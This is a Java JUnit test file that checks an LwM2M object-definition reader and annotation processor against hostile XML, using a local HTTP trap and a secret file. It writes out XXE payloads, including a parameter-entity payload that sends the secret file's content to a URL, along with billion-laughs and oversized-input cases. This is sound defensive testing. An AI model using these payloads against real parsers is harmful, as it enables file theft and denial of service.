package org.lwm2m.codegen.processor.robustness;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.lang.management.ManagementFactory;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;
import java.util.regex.Matcher;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import javax.tools.Diagnostic;
import org.eclipse.leshan.core.model.ObjectModel;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.lwm2m.codegen.processor.testing.ObjectXml;
import org.lwm2m.codegen.schema.ObjectDefinitionReader;
import org.lwm2m.codegen.schema.Problem;
import org.lwm2m.codegen.schema.ReadResult;
import org.lwm2m.codegen.schema.ReaderOptions;

/**
 * Hostile XML, each document through the schemas module's reader (strict and lenient) and through
 * the processor in real javac, all in this one JVM: external entities (file and http), parameter
 * entities, billion laughs, DTDs, XInclude, stylesheets and schema hints pointing at a server,
 * documents beyond 4 MiB, 10,000 levels deep, 3 MB attribute and text values, 20,000 attributes,
 * a 100,000-character element name, 1,500 resources. Every one is refused with a located error
 * (or, for the harmless ones, generated and compiled); nothing is fetched (a local HTTP trap
 * counts connections, and the XXE target is a local file whose content must appear nowhere in
 * diagnostics or generated output); no internal error or stack trace; diagnostics stay short.
 * Times, allocation and heap deltas are printed, never asserted.
 */
@Timeout(value = 10, unit = TimeUnit.MINUTES)
class HostileXmlTest {
  /** What a diagnostic may reasonably hold; longer ones echo the hostile input. */
  static final int MAX_MESSAGE_CHARS = 10_000;
  static final String SECRET = "LWM2M-XXE-SECRET-4f1c2a9e";

  @TempDir static Path work;
  static Path secretFile;
  static ServerSocket trap;
  static final AtomicInteger connections = new AtomicInteger();
  static final AtomicReference<String> firstRequest = new AtomicReference<>();
  static Thread trapThread;

  /**
   * One hostile document.
   *
   * @param rules the error rules that refuse it (any of them); empty when it may be accepted
   * @param mayGenerate whether generating (and compiling) it is a correct outcome
   */
  record Hostile(String name, byte[] bytes, Set<String> rules, boolean mayGenerate) {
    String file() {
      return "hostile/" + name + ".xml";
    }

    @Override
    public String toString() {
      return name;
    }
  }

  @BeforeAll
  static void trapAndSecret() throws IOException {
    secretFile = Files.writeString(work.resolve("secret.txt"), SECRET);
    trap = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    trapThread = new Thread(() -> {
      while (!trap.isClosed()) {
        try (Socket s = trap.accept()) {
          connections.incrementAndGet();
          s.setSoTimeout(2000);
          InputStream in = s.getInputStream();
          byte[] head = new byte[512];
          int n = in.read(head);
          firstRequest.compareAndSet(null, n > 0 ? new String(head, 0, n, StandardCharsets.ISO_8859_1) : "");
          OutputStream out = s.getOutputStream();
          byte[] body = "<!ENTITY trapped \"fetched\">".getBytes(StandardCharsets.US_ASCII);
          out.write(("HTTP/1.0 200 OK\r\nContent-Type: application/xml\r\nContent-Length: " + body.length + "\r\n\r\n")
              .getBytes(StandardCharsets.US_ASCII));
          out.write(body);
        } catch (IOException e) {
          // closed, or a client that went away
        }
      }
    }, "http-trap");
    trapThread.setDaemon(true);
    trapThread.start();
  }

  @AfterAll
  static void closeTrap() throws IOException {
    trap.close();
  }

  static String trapUrl(String path) {
    return "http://127.0.0.1:" + trap.getLocalPort() + "/" + path;
  }

  // --- the documents -------------------------------------------------------------------------------

  /** A valid object (lines: 1 declaration, 2 licence, 3 root; see {@link ObjectXml}). */
  static String base() {
    return new ObjectXml().id(26290).name("Hostile Base")
        .resource(0, "Text", "RW", false, "String", "0..255 bytes", "")
        .resource(1, "Level", "R", false, "Integer", "0..100", "%")
        .toString();
  }

  static String withDoctype(String doctype, String replaceName) {
    String xml = base();
    int afterDeclaration = xml.indexOf('\n') + 1;
    xml = xml.substring(0, afterDeclaration) + doctype + "\n" + xml.substring(afterDeclaration);
    return replaceName == null ? xml : xml.replace("<Name>Hostile Base</Name>", "<Name>" + replaceName + "</Name>")
        .replace("About Text.", replaceName);
  }

  static byte[] utf8(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  static List<Hostile> cases() {
    String secretUri = secretFile.toUri().toString();
    List<Hostile> cases = new ArrayList<>();
    Set<String> doctype = Set.of("xml-doctype");
    cases.add(new Hostile("xxe-file",
        utf8(withDoctype("<!DOCTYPE LWM2M [ <!ENTITY xxe SYSTEM \"" + secretUri + "\"> ]>", "&xxe;")), doctype, false));
    cases.add(new Hostile("xxe-http",
        utf8(withDoctype("<!DOCTYPE LWM2M [ <!ENTITY xxe SYSTEM \"" + trapUrl("xxe") + "\"> ]>", "&xxe;")), doctype, false));
    cases.add(new Hostile("parameter-entity",
        utf8(withDoctype("<!DOCTYPE LWM2M [ <!ENTITY % p SYSTEM \"" + trapUrl("p.dtd") + "\"> %p; ]>", "&trapped;")), doctype, false));
    cases.add(new Hostile("parameter-entity-exfiltration",
        utf8(withDoctype("<!DOCTYPE LWM2M [ <!ENTITY % file SYSTEM \"" + secretUri + "\">\n"
            + " <!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '" + trapUrl("?x=") + "%file;'>\"> %eval; %exfil; ]>", null)),
        doctype, false));
    cases.add(new Hostile("external-dtd", utf8(withDoctype("<!DOCTYPE LWM2M SYSTEM \"" + trapUrl("lwm2m.dtd") + "\">", null)), doctype, false));
    cases.add(new Hostile("public-dtd-file",
        utf8(withDoctype("<!DOCTYPE LWM2M PUBLIC \"-//OMA//DTD LWM2M//EN\" \"" + secretUri + "\">", null)), doctype, false));
    cases.add(new Hostile("internal-dtd",
        utf8(withDoctype("<!DOCTYPE LWM2M [ <!ELEMENT LWM2M ANY> <!ATTLIST Item ID CDATA \"0\"> ]>", null)), doctype, false));
    StringBuilder laughs = new StringBuilder("<!DOCTYPE LWM2M [\n <!ENTITY lol0 \"lol\">\n");
    for (int i = 1; i < 10; i++) {
      laughs.append(" <!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">\n");
    }
    cases.add(new Hostile("billion-laughs", utf8(withDoctype(laughs.append("]>").toString(), "&lol9;")), doctype, false));
    cases.add(new Hostile("quadratic-blowup",
        utf8(withDoctype("<!DOCTYPE LWM2M [ <!ENTITY big \"" + "x".repeat(100_000) + "\"> ]>", "&big;".repeat(20_000))), doctype, false));
    String xxeFile = withDoctype("<!DOCTYPE LWM2M [ <!ENTITY xxe SYSTEM \"" + secretUri + "\"> ]>", "&xxe;");
    cases.add(new Hostile("doctype-utf16",
        xxeFile.replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"").getBytes(StandardCharsets.UTF_16), doctype, false));
    cases.add(new Hostile("doctype-after-bom", utf8("\uFEFF" + xxeFile), doctype, false));
    cases.add(new Hostile("undeclared-entity", utf8(base().replace("<Name>Hostile Base</Name>", "<Name>&xxe;</Name>")), Set.of("xml"), false));

    String xi = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"%s\" parse=\"text\"/>";
    cases.add(new Hostile("xinclude-file",
        utf8(base().replace("<Name>Hostile Base</Name>", "<Name>" + String.format(xi, secretUri) + "</Name>")), Set.of("schema"), false));
    cases.add(new Hostile("xinclude-http",
        utf8(base().replace("About Text.", String.format(xi, trapUrl("xi.txt")))), Set.of("schema"), false));
    // Pointers to a server that a careless parser or validator would follow: harmless when ignored.
    cases.add(new Hostile("schema-location-http",
        utf8(base().replace("http://www.openmobilealliance.org/tech/profiles/LWM2M-v1_1.xsd", trapUrl("LWM2M-v1_1.xsd"))), Set.of(), true));
    cases.add(new Hostile("xsi-schema-location-http",
        utf8(base().replace("<LWM2M ", "<LWM2M xsi:schemaLocation=\"urn:evil " + trapUrl("evil.xsd") + "\" ")), Set.of("schema"), true));
    cases.add(new Hostile("stylesheet-http",
        utf8(base().replace("<LWM2M ", "<?xml-stylesheet type=\"text/xsl\" href=\"" + trapUrl("x.xsl") + "\"?>\n<LWM2M ")), Set.of(), true));

    // Size and depth.
    String valid = base();
    int pad = 4 * 1024 * 1024 + 1 - utf8(valid).length - "<!--  -->".length();
    cases.add(new Hostile("too-large-by-one-byte", utf8(valid.replace("</LWM2M>", "</LWM2M><!-- " + "p".repeat(pad) + " -->")),
        Set.of("xml-too-large"), false));
    cases.add(new Hostile("too-large-5mb-description", utf8(valid.replace("About Text.", "d".repeat(5_000_000))), Set.of("xml-too-large"), false));
    cases.add(new Hostile("deep-10000",
        utf8(valid.replace("About Text.", "<a>".repeat(10_000) + "</a>".repeat(10_000))), Set.of("xml-too-deep"), false));
    cases.add(new Hostile("deep-10000-unclosed", utf8(valid.replace("About Text.", "<a>".repeat(10_000))), Set.of("xml-too-deep", "xml"), false));
    cases.add(new Hostile("deep-10000-roots",
        utf8("<?xml version=\"1.0\"?>\n" + "<LWM2M>".repeat(10_000) + "</LWM2M>".repeat(10_000)), Set.of("xml-too-deep"), false));
    cases.add(new Hostile("attribute-3mb-schema-location",
        utf8(valid.replace("LWM2M-v1_1.xsd\"", "LWM2M-v1_1.xsd" + "x".repeat(3_000_000) + "\"")), Set.of("schema-location"), false));
    cases.add(new Hostile("attribute-3mb-resource-id",
        utf8(valid.replace("<Item ID=\"0\">", "<Item ID=\"" + "1".repeat(3_000_000) + "\">")), Set.of("schema"), false));
    cases.add(new Hostile("attribute-3mb-unknown",
        utf8(valid.replace("<Object ObjectType", "<Object evil=\"" + "e".repeat(3_000_000) + "\" ObjectType")), Set.of("schema"), false));
    cases.add(new Hostile("text-3mb-description", utf8(valid.replace("About Text.", "\u00e9".repeat(1_500_000))), Set.of(), true));
    // A 3 MB enumeration (1,500,000 values), and one of 20,000 values (110 KB): before ranges were capped at 256
    // alternatives, the first took the processor 30 s and javac over 6 minutes to fail with "code too large".
    cases.add(new Hostile("text-3mb-range", utf8(valid.replace("0..255 bytes", "1,".repeat(1_500_000) + "2")), Set.of(), true));
    cases.add(new Hostile("range-20000-values", utf8(valid.replace("<RangeEnumeration>0..100</RangeEnumeration>",
        "<RangeEnumeration>" + IntStream.range(0, 20_000).mapToObj(Integer::toString).collect(Collectors.joining(",")) + "</RangeEnumeration>")),
        Set.of(), true));
    StringBuilder attributes = new StringBuilder();
    for (int i = 0; i < 20_000; i++) {
      attributes.append(" a").append(i).append("=\"x\"");
    }
    cases.add(new Hostile("attributes-20000",
        utf8(valid.replace("<Object ObjectType", "<Object" + attributes + " ObjectType")), Set.of("xml", "schema"), false));
    cases.add(new Hostile("element-name-100000",
        utf8(valid.replace("About Text.", "<" + "A".repeat(100_000) + "/>")), Set.of("xml", "schema"), false));
    ObjectXml wide = new ObjectXml().id(26291).name("Wide");
    for (int i = 0; i < 1_500; i++) {
      wide.resource(i, "Resource " + i, "RW", false, "Integer", "0..10", "");
    }
    cases.add(new Hostile("resources-1500", utf8(wide.toString()), Set.of(), true));
    return cases;
  }

  // --- through the reader --------------------------------------------------------------------------

  @TestFactory
  Stream<DynamicTest> throughTheReader() {
    return cases().stream().map(c -> DynamicTest.dynamicTest(c.name(), () -> {
      for (boolean lenient : new boolean[] {false, true}) {
        ObjectDefinitionReader reader = new ObjectDefinitionReader(new ReaderOptions(lenient, ReaderOptions.DEFAULT_MAX_BYTES));
        int before = connections.get();
        Measure m = Measure.start();
        ReadResult result = reader.read(c.file(), c.bytes());
        System.out.printf(Locale.ROOT, "[hostile-xml] reader %-8s %-32s %s; %s%n", lenient ? "lenient" : "strict", c.name(), m.stop(),
            result.problems().stream().filter(Problem::isError).map(Problem::rule).distinct().collect(Collectors.toList()));
        assertEquals(before, connections.get(), "the reader connected to " + trapUrl("") + ": " + firstRequest.get());
        String all = result.problems().toString() + result.objects();
        assertFalse(all.contains(SECRET), "the secret file's content leaked: " + shorten(all));
        for (Problem p : result.problems()) {
          assertNull(ProcessorRun.failureSign(p.message(), null), () -> "not a clean diagnostic: " + shorten(p.toString()));
          assertTrue(p.message().length() <= MAX_MESSAGE_CHARS,
              () -> "a " + p.message().length() + "-character message (it echoes the input): " + shorten(p.toString()));
          if (p.isError()) {
            assertEquals(c.file(), p.location().file(), p::toString);
            assertTrue(p.location().line() > 0 || p.rule().equals("xml-too-large"), () -> "an error without a line: " + p);
          }
        }
        if (!c.rules().isEmpty() && !c.mayGenerate()) {
          assertTrue(result.hasErrors(), "not refused: " + c.name());
          assertTrue(result.problems().stream().anyMatch(p -> p.isError() && c.rules().contains(p.rule())),
              () -> "refused, but not for one of " + c.rules() + ": " + shorten(result.problems().toString()));
        }
      }
    }));
  }

  // --- through the processor -----------------------------------------------------------------------

  @TestFactory
  Stream<DynamicTest> throughTheProcessor() {
    return cases().stream().map(c -> DynamicTest.dynamicTest(c.name(), () -> {
      Path dir = Files.createDirectories(work.resolve("p-" + c.name()));
      Path models = Files.createDirectories(dir.resolve("models/hostile"));
      Files.write(models.resolve(c.name() + ".xml"), c.bytes());
      int before = connections.get();
      Measure m = Measure.start();
      try (ProcessorRun run = ProcessorRun.run(dir.resolve("work"), dir.resolve("models"), "com.acme.hostile", List.of(c.file()), List.of())) {
        String measured = m.stop();
        List<String> errors = run.messages(Diagnostic.Kind.ERROR);
        int sources = run.generatedSources().size();
        System.out.printf(Locale.ROOT, "[hostile-xml] processor %-32s %s; processor %d ms, generated code %d ms; %d sources; %s%n",
            c.name(), measured, run.processMillis, run.compileMillis, sources,
            errors.stream().map(e -> {
              Matcher x = ProcessorRun.LOCATED.matcher(e);
              return x.find() ? x.group("rule") : "?";
            }).distinct().collect(Collectors.toList()));
        assertEquals(before, connections.get(), "the processor connected to " + trapUrl("") + ": " + firstRequest.get());
        assertNull(run.crash, () -> "javac crashed: " + ProcessorRun.stackTrace(run.crash));
        String everything = run.everything();
        assertNull(ProcessorRun.failureSign(everything, null), () -> "not a clean run: " + shorten(everything));
        assertNoSecret(dir, everything);
        assertTrue(run.generatedErrors.isEmpty(), () -> "the generated code does not compile:\n"
            + shorten(run.generatedErrors.stream().map(ProcessorRun::describe).collect(Collectors.joining("\n"))));
        for (String e : run.messages(Diagnostic.Kind.ERROR)) {
          assertTrue(e.length() <= MAX_MESSAGE_CHARS, () -> "a " + e.length() + "-character diagnostic (it echoes the input): " + shorten(e));
          Matcher x = ProcessorRun.LOCATED.matcher(e);
          String path = dir.resolve("models").resolve(c.file()).toString(); // the absolute path read
          assertTrue(x.find() && x.group("file").equals(path), () -> "an error not naming " + path + ": " + shorten(e));
          assertTrue(x.group("line") != null || x.group("rule").equals("xml-too-large"), () -> "an error without a line: " + shorten(e));
        }
        if (errors.isEmpty()) {
          assertTrue(c.mayGenerate(), "accepted: " + c.name());
          assertTrue(sources > 0 && run.generatedCompiled, "accepted but nothing compiled");
          checkModel(run, c);
        } else {
          assertTrue(c.rules().isEmpty() || errors.stream().anyMatch(e -> {
            Matcher x = ProcessorRun.LOCATED.matcher(e);
            return x.find() && c.rules().contains(x.group("rule"));
          }), () -> "refused, but not for one of " + c.rules() + ": " + shorten(String.join("\n", errors)));
          assertEquals(0, sources, "generated from a refused file");
        }
      }
    }));
  }

  /** For an accepted document: the generated model's texts are the document's. */
  static void checkModel(ProcessorRun run, Hostile c) throws Exception {
    List<String> names = run.compiledClassNames().stream().filter(n -> n.endsWith("Model")).collect(Collectors.toList());
    assertEquals(1, names.size(), "one model class: " + names);
    ObjectModel model = (ObjectModel) Class.forName(names.get(0), true, run.loader()).getField("MODEL").get(null);
    String xml = new String(c.bytes(), StandardCharsets.UTF_8);
    assertTrue(xml.contains("<Description>" + model.resources.get(0).description + "</Description>"), "resource 0's description");
    for (var r : model.resources.values()) {
      assertTrue(xml.contains("<RangeEnumeration>" + r.rangeEnumeration + "</RangeEnumeration>"), "resource " + r.id + "'s range");
    }
  }

  static void assertNoSecret(Path dir, String everything) throws IOException {
    assertFalse(everything.contains(SECRET), "the secret file's content is in the diagnostics");
    byte[] secret = SECRET.getBytes(StandardCharsets.UTF_8);
    try (Stream<Path> files = Files.walk(dir)) {
      for (Path p : files.filter(Files::isRegularFile).collect(Collectors.toList())) {
        if (p.toString().contains("/models/")) {
          continue; // the input itself names the file, not its content
        }
        byte[] content = Files.readAllBytes(p);
        if (indexOf(content, secret) >= 0) {
          fail("the secret file's content is in " + p);
        }
      }
    }
  }

  /** Where {@code needle} starts in {@code haystack}: ISO-8859-1 maps each byte to one char. */
  static int indexOf(byte[] haystack, byte[] needle) {
    return new String(haystack, java.nio.charset.StandardCharsets.ISO_8859_1)
        .indexOf(new String(needle, java.nio.charset.StandardCharsets.ISO_8859_1));
  }

  static String shorten(String s) {
    return s.length() <= 2000 ? s : s.substring(0, 2000) + "... (" + s.length() + " chars)";
  }

  /** Wall time, bytes allocated by this thread, and the heap in use before and after. */
  static final class Measure {
    private static final com.sun.management.ThreadMXBean THREADS = (com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean();
    private final long t0 = System.nanoTime();
    private final long allocated0 = THREADS.getCurrentThreadAllocatedBytes();
    private final long used0 = used();

    static Measure start() {
      return new Measure();
    }

    private static long used() {
      Runtime r = Runtime.getRuntime();
      return r.totalMemory() - r.freeMemory();
    }

    String stop() {
      long ms = (System.nanoTime() - t0) / 1_000_000;
      long allocated = THREADS.getCurrentThreadAllocatedBytes() - allocated0;
      long delta = used() - used0;
      return String.format(Locale.ROOT, "%5d ms, %7.1f MB allocated, heap %+7.1f MB", ms, allocated / 1e6, delta / 1e6);
    }
  }
}
